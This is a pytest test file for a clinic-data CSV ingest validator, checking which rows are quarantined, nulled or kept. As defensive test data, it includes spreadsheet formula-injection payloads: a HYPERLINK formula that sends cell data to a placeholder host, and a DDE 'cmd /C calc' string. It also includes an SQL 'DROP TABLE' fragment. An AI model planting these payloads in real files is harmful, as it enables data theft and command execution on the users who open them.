"""Rows that must be quarantined with the right reason and field while the good rows of
the same file are accepted; plus inputs that look odd but are valid and must be kept."""
from __future__ import annotations

import codecs
import json

import pandas as pd
import pytest

from linkage.ingest import ingest_file
from linkage.ingest_read import FileRejected
from linkage.ingest_validate import ROW_REASONS
from linkage.sources import SourceDefinition


def _one_bad_row(definition, vault, kit, tmp_path, **changes):
    rows = [kit.good_row(i) for i in range(4)]
    rows[2].update(changes)
    p = kit.write_csv(tmp_path / "clinic.csv", rows)
    result = ingest_file(definition, p, vault, today=kit.TODAY)
    q = kit.read_quarantine(vault)
    return result, q


# (column, bad value, expected reason)
BAD_VALUES = [
    ("dob", "March 4 2012", "bad_date"),
    ("dob", "2012-03-04", "bad_date"),  # ISO in a source that declared %m/%d/%Y
    ("dob", "02/30/2012", "impossible_date"),
    ("dob", "13/01/2012", "impossible_date"),
    ("visit_date", "05/06/2031", "future_date"),
    ("dob", "01/01/1850", "implausible_date"),
    ("visits", "3 visits", "wrong_type"),
    ("visits", "2.5", "wrong_type"),
    ("visits", "-1", "out_of_range"),
    ("visits", "101", "out_of_range"),
    ("visits", "1" * 30, "out_of_range"),
    ("charge", "NaN", "wrong_type"),
    ("charge", "inf", "wrong_type"),
    ("charge", "twelve", "wrong_type"),
    ("insured", "maybe", "wrong_type"),
    ("kind", "surgery", "not_allowed_value"),
    ("kind", "", "missing_required"),
    ("visit_date", "", "missing_required"),
    ("visit_id", "", "missing_required"),
    ("visit_id", "V1/mother", "invalid_record_id"),
    ("sex", "female", "not_allowed_value"),
    ("ssn", "21245678X", "wrong_type"),
    ("ssn", "2124", "wrong_type"),  # a full-SSN source gets four digits
    ("zip", "2120", "wrong_type"),
    ("first", "Mar1a", "invalid_characters"),
    ("last", 'Lo"pez', "invalid_characters"),
    ("street", "12 Main St; DROP TABLE", "invalid_characters"),
    ("first", "Maria\nLopez", "embedded_newline"),
    ("note", "line one\r\nline two", "embedded_newline"),
    ("first", "Ma\u200bria", "control_character"),  # zero-width space
    ("last", "Lopez\u202e", "control_character"),  # right-to-left override
    ("note", "bell\x07", "control_character"),
    ("first", "A" * 51, "too_long"),
    ("note", "n" * 31, "too_long"),
    ("note", '=HYPERLINK("http://x.example/?d="&A1,"click")', "formula_injection"),
    ("note", "+cmd|' /C calc'!A0", "formula_injection"),
    ("note", "-2+3", "formula_injection"),
    ("note", "@SUM(A1:A9)", "formula_injection"),
    ("note", "\t=1+1", "formula_injection"),
    ("note", "\r=1+1", "formula_injection"),
    ("mother_first", "=cmd", "formula_injection"),
    ("visit_date", "01/01/2011", "event_before_birth"),
]


IDENTIFIER_COLUMNS = {"first", "last", "dob", "sex", "ssn", "street", "zip", "mother_first", "mother_last", "mother_ssn"}
# Field-level failures of identifier columns: by default the value is nulled and flagged and the
# record is kept (it still links on the rest); the row reasons quarantine whatever the policy.
FIELD_LEVEL = [(c, v, r) for c, v, r in BAD_VALUES if c in IDENTIFIER_COLUMNS and r not in ROW_REASONS]
ROW_LEVEL = [(c, v, r) for c, v, r in BAD_VALUES if (c, v, r) not in FIELD_LEVEL and r != "event_before_birth"]


def _with_policy(definition, column, policy):
    raw = definition.model_dump(exclude_unset=True)
    raw["on_invalid"] = {column: policy}
    return SourceDefinition.model_validate(raw)


@pytest.mark.parametrize("column,value,reason", FIELD_LEVEL, ids=[f"{r}-{c}-{i}" for i, (c, _, r) in enumerate(FIELD_LEVEL)])
def test_bad_identifier_is_nulled_and_flagged_and_the_record_kept(definition, vault, kit, tmp_path, column, value, reason):
    result, q = _one_bad_row(definition, vault, kit, tmp_path, **{column: value})
    assert result.rows_accepted == 4 and result.rows_quarantined == 0 and result.rows_flagged == 1
    assert result.flags == {column: {reason: 1}}
    ids = kit.read_part(vault, "identifiers")
    field = {"first": "first_name", "last": "last_name", "mother_first": "first_name"}.get(column, column)
    role = "mother" if column.startswith("mother") else "subject"
    kept = ids[(ids["source_record_id"] == "V00002") & (ids["role"] == role)]
    assert len(kept) == 1 and kept[field].isna().all()
    others = ids[(ids["source_record_id"] == "V00001") & (ids["role"] == role)]
    assert others[field].notna().all()
    flags = pd.read_csv(vault / "flags" / "clinic" / f"{result.deposit_id}.csv", dtype=str, keep_default_na=False)
    assert flags["_row"].tolist() == ["3"] and flags["_field"][0] == column and flags["_reason"][0] == reason
    assert flags[column][0] == _neutral(value.strip())  # the original value stays in the vault for the steward
    manifest = json.loads((vault / "deposits" / "clinic" / f"{result.deposit_id}.json").read_text())
    assert manifest["flags"] == {column: {reason: 1}} and manifest["rows_flagged"] == 1


def _neutral(value: str) -> str:
    return "'" + value if value[:1] in "=+-@" else value


@pytest.mark.parametrize("column,value,reason", FIELD_LEVEL[:6], ids=[f"{r}-{c}" for c, _, r in FIELD_LEVEL[:6]])
def test_policy_quarantine_row_keeps_the_old_behaviour(definition, vault, kit, tmp_path, column, value, reason):
    strict = _with_policy(definition, column, "quarantine_row")
    result, q = _one_bad_row(strict, vault, kit, tmp_path, **{column: value})
    assert result.rows_accepted == 3 and result.rows_quarantined == 1 and result.reasons[reason] == 1
    assert column in q["_field"][0].split(";")


def test_policy_refuse_file_names_row_line_and_field_and_writes_nothing(definition, vault, kit, tmp_path):
    strict = _with_policy(definition, "ssn", "refuse_file")
    rows = [kit.good_row(i) for i in range(4)]
    rows[2]["ssn"] = "21245678X"
    p = kit.write_csv(tmp_path / "clinic.csv", rows)
    with pytest.raises(FileRejected) as exc:
        ingest_file(strict, p, vault, today=kit.TODAY)
    assert exc.value.line == 4 and exc.value.field == "ssn" and "row 3" in str(exc.value) and "wrong_type" in str(exc.value)
    assert "21245678X" not in str(exc.value)
    assert kit.vault_files(vault) == []


def test_event_before_birth_nulls_the_dob_by_default(definition, vault, kit, tmp_path):
    result, _ = _one_bad_row(definition, vault, kit, tmp_path, visit_date="01/01/2011")
    assert result.rows_accepted == 4 and result.flags == {"dob": {"event_before_birth": 1}}
    ids = kit.read_part(vault, "identifiers")
    assert ids.loc[(ids["source_record_id"] == "V00002") & (ids["role"] == "subject"), "dob"].isna().all()


def test_policy_names_a_declared_column(definition):
    raw = definition.model_dump(exclude_unset=True)
    for on_invalid, message in [({"nope": "quarantine_row"}, "does not declare"), ({"visit_id": "null_and_flag"}, "cannot be nulled"),
                                ({"kind": "null_and_flag"}, "required column"), ({"ssn": "ignore"}, "null_and_flag")]:
        raw["on_invalid"] = on_invalid
        with pytest.raises(ValueError, match=message):
            SourceDefinition.model_validate(raw)


def test_source_placeholders_are_nulled_and_counted(definition, vault, kit, tmp_path):
    raw = definition.model_dump(exclude_unset=True)
    raw["placeholders"] = {"zip": ["00000"], "first_name": ["BABY"]}
    result, _ = _one_bad_row(SourceDefinition.model_validate(raw), vault, kit, tmp_path, zip="00000", first="BABY")
    assert result.rows_accepted == 4 and result.rows_flagged == 0
    assert result.cleaned["zip_placeholder_nulled"] == 1 and result.cleaned["first_name_placeholder_nulled"] == 1
    ids = kit.read_part(vault, "identifiers")
    row = ids[(ids["source_record_id"] == "V00002") & (ids["role"] == "subject")]
    assert row["zip"].isna().all() and row["first_name"].isna().all()


@pytest.mark.parametrize("column,value,reason", ROW_LEVEL, ids=[f"{r}-{c}-{i}" for i, (c, _, r) in enumerate(ROW_LEVEL)])
def test_bad_value_is_quarantined(definition, vault, kit, tmp_path, column, value, reason):
    result, q = _one_bad_row(definition, vault, kit, tmp_path, **{column: value})
    assert result.rows_accepted == 3 and result.rows_quarantined == 1
    assert result.reasons[reason] == 1, result.reasons
    assert q["_row"].tolist() == ["3"]  # the third data row
    assert reason in q["_reason"][0].split(";")
    assert column in q["_field"][0].split(";")
    ids = kit.read_part(vault, "identifiers")
    assert "V00002" not in set(ids["source_record_id"])


def test_quarantine_file_neutralises_formulas(definition, vault, kit, tmp_path):
    _, q = _one_bad_row(definition, vault, kit, tmp_path, note="=HYPERLINK(\"http://x.example\")", mother_first="@evil")
    assert q["note"][0].startswith("'=")
    assert q["mother_first"][0] == "'@evil"
    raw = next((vault / "quarantine" / "clinic").glob("*.csv")).read_text(encoding="utf-8")
    assert ",=HYPERLINK" not in raw and ",@evil" not in raw


def test_all_reasons_of_a_row_are_recorded(definition, vault, kit, tmp_path):
    result, q = _one_bad_row(definition, vault, kit, tmp_path, dob="02/30/2012", kind="surgery", note="=1")
    assert set(q["_reason"][0].split(";")) == {"impossible_date", "not_allowed_value", "formula_injection"}
    assert result.rows_quarantined == 1


def test_wrong_field_count(definition, vault, kit, tmp_path):
    p = kit.write_csv(tmp_path / "c.csv", [kit.good_row(i) for i in range(3)])
    lines = p.read_text(encoding="utf-8").splitlines()
    lines[2] += ",surplus"
    lines[3] = ",".join(lines[3].split(",")[:5])
    p.write_text("\n".join(lines) + "\n", encoding="utf-8")
    result = ingest_file(definition, p, vault, today=kit.TODAY)
    assert result.rows_accepted == 1 and result.reasons["field_count"] == 2
    q = kit.read_quarantine(vault).set_index("_row")
    assert sorted(q.index) == ["2", "3"]
    assert q.loc["2", "_extra"] == '["surplus"]' and q.loc["3", "_extra"] == ""  # nothing dropped unseen


def test_malformed_quoting_is_quarantined_and_reading_continues(definition, vault, kit, tmp_path):
    p = kit.write_csv(tmp_path / "c.csv", [kit.good_row(i) for i in range(4)])
    lines = p.read_text(encoding="utf-8").splitlines()
    lines[2] = lines[2].replace(',"Maria",', ',"Maria"x,')
    assert '"Maria"x' in lines[2]
    p.write_text("\n".join(lines) + "\n", encoding="utf-8")
    result = ingest_file(definition, p, vault, today=kit.TODAY)
    assert result.reasons["malformed_csv"] == 1 and result.rows_accepted == 3


def test_embedded_quotes_and_commas_properly_quoted_are_kept(definition, vault, kit, tmp_path):
    result, _ = _one_bad_row(definition, vault, kit, tmp_path, last="O'Brien-Smith", note='said "fine", left', street="1200 N. Charles St, Apt #4")
    assert result.rows_accepted == 4
    ids = kit.read_part(vault, "identifiers")
    row = ids[(ids.source_record_id == "V00002") & (ids.role == "subject")].iloc[0]
    assert row.last_name == "O'Brien-Smith" and row.street == "1200 N. Charles St, Apt #4"
    content = kit.read_part(vault, "content")
    assert content.set_index("record_key").loc["clinic:V00002", "note"] == 'said "fine", left'


def test_unicode_names_are_kept(definition, vault, kit, tmp_path):
    result, _ = _one_bad_row(definition, vault, kit, tmp_path, first="José", last="Nguyễn", mother_first="Zoë")
    assert result.rows_accepted == 4


def test_duplicate_record_id_across_chunks(definition, vault, kit, tmp_path):
    rows = [kit.good_row(i) for i in range(10)]
    rows[8]["visit_id"] = rows[1]["visit_id"]
    p = kit.write_csv(tmp_path / "c.csv", rows)
    result = ingest_file(definition, p, vault, chunk_rows=3, today=kit.TODAY)
    assert result.reasons["duplicate_record_id"] == 1 and result.rows_accepted == 9
    assert kit.read_quarantine(vault)["_row"].tolist() == ["9"]


def test_row_without_any_identifier(definition, vault, kit, tmp_path):
    result, q = _one_bad_row(definition, vault, kit, tmp_path, first="", last="", dob="", ssn="", visit_date="05/06/2020")
    assert result.reasons["no_identifiers"] == 1


def test_placeholder_ssn_is_nulled_not_kept(definition, vault, kit, tmp_path):
    result, _ = _one_bad_row(definition, vault, kit, tmp_path, ssn="999-99-9999", mother_ssn="000000000")
    assert result.rows_accepted == 4 and result.cleaned["ssn_placeholder_nulled"] == 2
    ids = kit.read_part(vault, "identifiers").set_index("record_key")
    assert ids.loc["clinic:V00002", "ssn"] is None
    assert ids.loc["clinic:V00001", "ssn"] == "212456789"  # dashes removed


def test_utf8_bom_is_accepted_and_recorded(definition, vault, kit, tmp_path):
    p = kit.write_csv(tmp_path / "bom.csv", [kit.good_row(i) for i in range(3)])
    p.write_bytes(codecs.BOM_UTF8 + p.read_bytes())
    result = ingest_file(definition, p, vault, today=kit.TODAY)
    assert result.rows_accepted == 3
    assert pd.read_json(result.manifest_path, typ="series")["bom_stripped"]


def test_crlf_and_blank_lines(definition, vault, kit, tmp_path):
    p = kit.write_csv(tmp_path / "crlf.csv", [kit.good_row(i) for i in range(3)], lineterminator="\r\n")
    p.write_bytes(p.read_bytes() + b"\r\n\r\n")
    result = ingest_file(definition, p, vault, today=kit.TODAY)
    assert result.rows_accepted == 3 and result.rows_quarantined == 0 and result.blank_lines == 2


def test_whitespace_is_trimmed(definition, vault, kit, tmp_path):
    result, _ = _one_bad_row(definition, vault, kit, tmp_path, first="  Maria ", zip=" 21201-1234 ")
    assert result.rows_accepted == 4
    ids = kit.read_part(vault, "identifiers").set_index("record_key")
    assert ids.loc["clinic:V00002", "first_name"] == "Maria" and ids.loc["clinic:V00002", "zip"] == "21201"


def test_bare_carriage_return_in_unquoted_field_does_not_split_the_record(definition, vault, kit, tmp_path):
    p = kit.write_csv(tmp_path / "c.csv", [kit.good_row(i) for i in range(4)], quoting=0)  # QUOTE_MINIMAL
    text = p.read_text(encoding="utf-8").splitlines()
    text[2] = text[2].replace(",ok", ",\r=1+1")  # last field of row 2, unquoted, CR-led
    p.write_bytes(("\n".join(text) + "\n").encode())
    result = ingest_file(definition, p, vault, today=kit.TODAY)
    assert result.rows_accepted == 3 and result.rows_quarantined == 1 and result.reasons["malformed_csv"] == 1
    assert "V00001" not in set(kit.read_part(vault, "identifiers").source_record_id)


def test_quoted_line_breaks_survive_in_text_fields(tmp_path, kit):
    from linkage.sources import SourceDefinition

    spec = dict(kit.DEFINITION, content=dict(kit.DEFINITION["content"], note={"type": "text", "description": "Free text", "max_length": 50}))
    definition = SourceDefinition.model_validate(spec)
    rows = [kit.good_row(i) for i in range(2)]
    rows[1]["note"] = "first line\r\nsecond line"
    p = kit.write_csv(tmp_path / "c.csv", rows, lineterminator="\r\n")
    result = ingest_file(definition, p, tmp_path / "v", today=kit.TODAY)
    assert result.rows_accepted == 2
    notes = kit.read_part(tmp_path / "v", "content").set_index("record_key")["note"]
    assert notes["clinic:V00001"] == "first line\r\nsecond line"
